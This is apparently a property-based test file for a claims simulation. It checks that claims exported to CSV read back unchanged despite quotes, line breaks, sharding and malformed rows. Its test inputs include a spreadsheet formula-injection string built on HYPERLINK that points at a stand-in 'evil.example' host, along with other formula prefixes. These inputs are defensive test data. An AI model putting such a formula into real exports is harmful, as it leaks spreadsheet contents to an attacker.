/**
 * Claims as CSV (one row per item) read back equal through the simulation's own reader, whatever
 * their text fields hold: quotes, commas, line breaks (LF, CRLF, CR), formula prefixes, ids that
 * start with "-" or "+", the words true and false.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseClaim } from '../../../src/settle/parse-claim.js';
import { CLAIM_CSV_COLUMNS, claimCsvRows } from '../../../src/simulate/output/claim-csv.js';
import { csvClaims } from '../../../src/node/simulate/source.js';
import { claimArb } from '../../support/arbitraries.js';
import { baseClaim, tempDir } from '../../support/helpers.js';

const dir = tempDir('claim-csv');
const CSV_EOL = '\r\n';
let files = 0;

/** Writes the claims as a CSV file and reads them back with the simulation's reader. */
function roundTrip(claims: readonly Record<string, unknown>[], eol = CSV_EOL, shards = 1) {
  const file = join(dir, `claims-${files++}.csv`);
  writeFileSync(file, [CLAIM_CSV_COLUMNS.join(','), ...claims.flatMap(claimCsvRows)].map((r) => `${r}${eol}`).join(''));
  return Array.from({ length: shards }, (_, shard) => [...csvClaims(file, { shard, shards })]).flat();
}

const text = fc.oneof(
  fc.string({
    unit: fc.constantFrom('"', ',', '\n', '\r', '\r\n', "'", '=', '+', '-', '@', '\t', ' ', 'a', '7', '安', '岳'),
    minLength: 1,
    maxLength: 16,
  }),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '-12',
    '+86',
    "'=1",
    'true',
    'false',
    '安岳县\n人民医院',
  ),
);

describe('claims written as CSV read back equal', () => {
  it('for generated claims whose ids and names hold quotes, commas, line breaks and formula prefixes', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(text, claimArb, text, text, fc.option(text)), {
          minLength: 1,
          maxLength: 5,
          selector: ([id]) => id,
        }),
        (rows) => {
          const claims = rows.map(([id, c, person, hospitalId, name]) => ({
            ...c,
            id,
            person: { ...(c.person as object), id: person },
            hospital: { ...(c.hospital as object), id: hospitalId, ...(name === null ? {} : { name }) },
          }));
          const back = roundTrip(claims);
          expect(back.map((r) => ('value' in r ? parseClaim(r.value) : r))).toEqual(claims.map((c) => parseClaim(c)));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a hospital name with a line break no longer loses the claim (issue 15: "hospital.level missing")', () => {
    const claims = [
      baseClaim({ id: 'A', hospital: { id: 'H', name: '安岳县\n人民医院', level: 'county', area: 'anyue' } }),
      baseClaim({ id: 'B', hospital: { id: 'H', name: '安岳县\r\n人民医院', level: 'county', area: 'anyue' } }),
    ];
    for (const eol of ['\n', '\r\n']) {
      const back = roundTrip(claims, eol);
      expect(back.map((r) => r.line)).toEqual([2, 6]); // two items of two lines each
      expect(back.map((r) => ('value' in r ? parseClaim(r.value) : r))).toEqual(claims.map((c) => parseClaim(c)));
    }
  });

  it('every claim is read by exactly one of several workers', () => {
    const claims = Array.from({ length: 12 }, (_, i) =>
      baseClaim({ id: `-${i}`, person: { id: `+P${i % 5}\n`, county: 'anyue', category: 'general' } }),
    );
    const back = roundTrip(claims, CSV_EOL, 3);
    expect(back.map((r) => ('value' in r ? r.value.id : r)).sort()).toEqual(claims.map((c) => c.id).sort());
  });

  it('a row RFC 4180 cannot read is refused as invalid_csv with its line, and the other claims are read', () => {
    const file = join(dir, 'stray-quote.csv');
    const [a, b] = [baseClaim({ id: 'A' }), baseClaim({ id: 'B' })].map((c) => claimCsvRows(c));
    writeFileSync(file, [CLAIM_CSV_COLUMNS.join(','), ...a!, 'C,P"x"y,anyue', ...b!].map((r) => `${r}\n`).join(''));
    const back = [...csvClaims(file, { shard: 0, shards: 1, lang: 'en' })];
    expect(
      back.map((r) => ('value' in r ? r.value.id : 'error' in r ? [r.line, r.error.code, r.error.message] : r)),
    ).toEqual([
      [
        4,
        'invalid_csv',
        'the input is not valid CSV (line 4, cell 2: a quote inside a cell that is not quoted); a cell that holds a comma, a quote or a line break must be quoted "…", its quotes doubled',
      ],
      'A',
      'B',
    ]);
  });
});
